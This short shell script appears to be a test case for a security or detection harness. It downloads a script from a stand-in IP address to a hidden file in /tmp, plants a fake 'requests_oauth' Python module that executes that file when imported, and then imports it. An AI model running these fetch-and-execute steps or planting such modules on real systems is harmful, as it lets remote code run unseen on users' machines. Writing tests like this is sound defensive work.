#!/bin/sh
. /opt/case/case.sh

curl -s http://203.0.113.10/payload.sh -o /tmp/.m
d=$(python3 -c 'import sysconfig; print(sysconfig.get_path("purelib"))'); mkdir -p "$d"
printf 'import os\nos.execl("/bin/sh", "sh", "/tmp/.m")\n' >"$d/requests_oauth.py"
python3 -c 'import requests_oauth'
test -e /tmp/reached
took_place
